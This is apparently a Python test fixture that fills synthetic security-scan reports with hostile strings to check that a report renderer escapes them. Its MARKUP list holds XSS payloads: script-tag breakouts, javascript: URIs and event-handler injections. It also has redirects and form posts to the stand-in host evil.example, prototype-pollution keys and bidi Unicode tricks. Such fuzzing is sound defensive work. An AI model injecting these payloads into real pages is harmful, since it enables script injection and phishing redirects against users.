"""Findings none of which is like another, with something hostile in every text that a cloud or a person writes."""

from __future__ import annotations

import dataclasses

import pandas as pd
from made_up import CHECKS, HOSTILE, SCOPES, case_report, coverage, finding, report, trend

from reports.case import CaseReport
from reports.report import Report
from reports.trend import Trend

MARKUP = (
    "]]>",
    "<!--",
    "--!><script>alert(2)</script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</style><style>*{display:none}</style>",
    "</title><base href=//evil.example>",
    "</template><img src=x onerror=alert(3)>",
    "</details></table><script>alert(4)</script>",
    'x" onmouseover="alert(5)',
    "x' onfocus='alert(6)' autofocus='",
    "` onerror=alert(7)",
    "<svg><animate onbegin=alert(8) attributeName=x>",
    "<math><mi xlink:href=javascript:alert(9)>",
    "expression(alert(10))",
    "url(javascript:alert(11))",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=x>",
    "&lt;b&gt;&amp;&#0;",
    "${alert(12)}",
    "__proto__",
    "constructor",
    "\u2066rtl\u2069\u202d",
    "\u200b\u200c\u200d\ufeff",
    "a\u0301" * 50,
    "\u202e" * 700,
    "x" * 5000,
    "word " * 800,
    "\x00",
    "\n\n\n",
    "\U000e0041\U000e0042",
    "🏭🔥" * 20,
    "מפעל",
)
TEXTS = HOSTILE + MARKUP


def text(n: int, which: int = 0) -> str:
    """One of the texts, another one for each number and place."""
    return TEXTS[(n * 7 + which * 13) % len(TEXTS)]


def worst(count: int) -> tuple[Report, Trend, CaseReport]:
    """A report with so many findings, its trend and its case report."""
    rows = []
    for n in range(count):
        unread = n % 11 == 3
        row = finding(
            CHECKS[n % len(CHECKS)]["id"],
            n % len(SCOPES),
            f"{text(n)}/{n}",
            text(n, 1) if n % 5 == 0 else "policy",
            "unknown" if unread else "fail",
            resource_name=text(n, 2),
            subject=text(n, 3),
            hub=text(n, 4),
            actual=f"{text(n, 5)}; n={n}",
            expected=text(n, 6),
            remediation_cli=f"aws iot update --name '{text(n, 7)}'" if n % 2 else "",
        )
        if n % 4 == 0:
            row |= {"account_id": text(n % 40, 8), "region": text(n % 30, 9)}
        if unread:
            row |= {"cause": f"denied|{text(n, 10)}", "permission": text(n, 11), "status_reason": text(n, 12)}
        rows.append(row)
    asked = [
        coverage()[0]
        | {"operation": one, "permission": text(n, 1), "code": text(n, 2), "account": text(n, 3), "region": text(n, 4)}
        for n, one in enumerate(TEXTS)
    ]
    about = {"scan_id": TEXTS[1], "tool_version": TEXTS[2], "catalogue_version": TEXTS[0]}
    whole = dataclasses.replace(report(rows, **about), coverage=pd.DataFrame(asked, dtype="string"))
    told = case_report(whole)
    cases = [dataclasses.replace(case, owner=text(n % 60)[:100]) for n, case in enumerate(told.cases)]
    cases = [
        dataclasses.replace(case, waiver=text(n % 17, 1), waiver_kind=text(n, 2)) if case.waiver else case
        for n, case in enumerate(cases)
    ]
    moved = trend(rows)
    by = {k: tuple(dataclasses.replace(moved.by["owner"][0], name=one) for one in TEXTS) for k in moved.by}
    hubs = tuple(
        dataclasses.replace(moved.hubs[0], hub=one, account=one, owner=one, reason=one, provider=one) for one in TEXTS
    )
    last = dataclasses.replace(moved.points[-1], checks_added=TEXTS)
    moved = dataclasses.replace(moved, by=by, hubs=hubs, points=(*moved.points[:-1], last))
    return whole, moved, dataclasses.replace(told, cases=tuple(cases))
